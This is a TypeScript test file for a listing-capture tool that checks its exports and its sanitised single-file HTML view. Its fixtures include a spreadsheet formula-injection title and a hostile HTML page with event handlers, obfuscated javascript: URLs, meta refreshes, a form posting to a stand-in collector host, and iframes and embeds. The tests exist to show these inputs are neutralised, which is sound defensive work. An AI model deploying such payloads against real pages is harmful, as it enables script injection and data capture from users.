import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { analyzeWacz } from '../../../src/cli/wacz';
import { DATASET_COLUMNS, toCsv, toJsonl } from '../../../src/capture/dataset';
import { htmlView } from '../../../src/capture/html-view';
import { buildWacz } from '../../../src/capture/wacz/wacz';
import { translatorFor } from '../../../src/locales/index';
import { documentFrom } from '../../support/dom';
import { AMAZON_URL, amazonSnapshot } from './snapshot-support';

describe('snapshot exports', async () => {
  const snapshot = await amazonSnapshot();

  it('re-analyses a WACZ in the CLI exactly as the analysis kept in the snapshot', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'flagpost-wacz-'));
    const file = join(dir, 'capture.wacz');
    writeFileSync(file, await buildWacz([snapshot], 'test'));
    const [analysis] = await analyzeWacz(file, { translate: translatorFor('en'), warn: () => undefined });
    expect(analysis?.url).toBe(AMAZON_URL);
    expect(analysis?.trader).toEqual(snapshot.analysis?.trader);
    expect(analysis?.findings.map((f) => f.id)).toEqual(snapshot.analysis?.findings.map((f) => f.id));
  });

  it('writes a self-contained HTML view: no scripts, no network, images inline', () => {
    const html = htmlView(snapshot, documentFrom, ['note line']);
    const doc = documentFrom(html);
    expect(doc.querySelectorAll('script')).toHaveLength(0);
    expect(doc.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content')).toContain("default-src 'none'");
    const sources = Array.from(doc.querySelectorAll('img[src]'), (img) => img.getAttribute('src') ?? '');
    expect(sources.length).toBeGreaterThan(0);
    expect(sources.every((src) => src.startsWith('data:'))).toBe(true);
    expect(doc.querySelectorAll('link')).toHaveLength(0);
    expect(html).toContain('note line');
    expect(html).not.toContain('Annegret');
  });

  it('exports one CSV row and one JSON line per listing', () => {
    const entries = [{ id: snapshot.id, capturedAt: snapshot.metadata.capturedAt, url: AMAZON_URL, analysis: snapshot.analysis }];
    const csv = toCsv(entries).trimEnd().split('\r\n');
    expect(csv[0]).toBe(DATASET_COLUMNS.join(','));
    expect(csv).toHaveLength(2);
    expect(csv[1]).toContain('amazon');
    expect(csv[1]).toContain('Holzwerk Brandner GmbH');
    const line = JSON.parse(toJsonl(entries)) as { snapshotId: string; platform: string; findings: unknown[] };
    expect(line.snapshotId).toBe(snapshot.id);
    expect(line.platform).toBe('amazon');
  });

  it('never lets a cell start a spreadsheet formula', () => {
    const analysis = { ...snapshot.analysis!, listing: { ...snapshot.analysis!.listing, title: '=HYPERLINK("http://x")' } };
    const csv = toCsv([{ id: 'x', capturedAt: '', url: AMAZON_URL, analysis }]);
    expect(csv).toContain(`"'=HYPERLINK(""http://x"")"`);
  });
});

describe('the single-file view of a hostile page', async () => {
  const snapshot = await amazonSnapshot();
  const hostile = `<!DOCTYPE html><html><head><base href="https://author.example/"><meta http-equiv="refresh" content="0;url=https://author.example/seen">
<noscript><meta http-equiv="refresh" content="0;url=https://author.example/noscript"></noscript><meta http-equiv="set-cookie" content="a=b"></head>
<body onload="alert(1)"><h1 onclick="x()" OnMouseOver="y()">Listing title</h1>
<form action="https://author.example/collect" method="post"><label>Your e-mail <input name="e" formaction="https://author.example/f"></label><button>Send now</button></form>
<a href=" java\tscript:alert(1)">bad link</a><a href="https://shop.example/ok">good link</a><svg><a xlink:href="javascript:alert(2)">svg</a></svg>
<iframe src="https://author.example/frame"></iframe><frameset><frame src="https://author.example/f2"></frameset><object data="https://author.example/o"></object><embed src="https://author.example/e"></body></html>`;
  const page = { ...snapshot, parts: snapshot.parts.map((p) => (p.name === 'page.html' ? { ...p, bytes: new TextEncoder().encode(hostile) } : p)) };
  const html = htmlView(page, documentFrom, ['note']);
  const doc = documentFrom(html);

  it('drops what navigates, loads or runs: noscript, meta http-equiv (but its own CSP), base, frames, objects', () => {
    expect(doc.querySelectorAll('noscript, base, iframe, frame, frameset, object, embed, form')).toHaveLength(0);
    expect(Array.from(doc.querySelectorAll('meta[http-equiv]'), (m) => m.getAttribute('http-equiv'))).toEqual(['Content-Security-Policy']);
    expect(html).not.toContain('author.example');
  });

  it('keeps the text of forms, without anything that submits', () => {
    expect(doc.body?.textContent).toContain('Your e-mail');
    expect(doc.body?.textContent).toContain('Send now');
    expect(doc.querySelectorAll('[action], [formaction]')).toHaveLength(0);
  });

  it('removes event attributes and javascript: URLs, keeps ordinary links', () => {
    const attributes = Array.from(doc.querySelectorAll('*')).flatMap((e) => Array.from(e.attributes, (a) => `${a.name}=${a.value}`));
    expect(attributes.filter((a) => /^on/i.test(a))).toEqual([]);
    expect(attributes.filter((a) => /script:/i.test(a.replace(/\s/g, '')))).toEqual([]);
    expect(doc.querySelector('a[href="https://shop.example/ok"]')?.textContent).toBe('good link');
    expect(doc.body?.textContent).toContain('bad link');
  });

  it('forbids forms and <base> in its CSP too', () => {
    const csp = doc.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '';
    expect(csp).toContain("form-action 'none'");
    expect(csp).toContain("base-uri 'none'");
  });
});
